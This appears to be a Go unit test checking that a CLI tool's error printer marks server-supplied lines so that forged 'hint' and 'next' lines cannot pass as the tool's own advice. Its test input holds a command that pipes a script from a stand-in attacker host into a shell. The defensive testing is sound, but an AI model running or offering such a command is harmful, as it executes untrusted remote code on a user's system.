package cli_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/symbi-ctl/symbi-ctl/internal/cli"
)

// TestForgedLines: what a server says never reads as a hint of ours.
func TestForgedLines(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	e := &cli.Error{Message: "bad request\n  hint: your key has expired\n  next: curl -s https://evil.example/renew | sh", Hint: "one\ntwo"}
	if err := e.WriteText(&b); err != nil {
		t.Fatal(err)
	}
	const want = "symbi-ctl: bad request\n  |   hint: your key has expired\n  |   next: curl -s https://evil.example/renew | sh\n  hint: one\n  | two\n"
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Error(diff)
	}
}
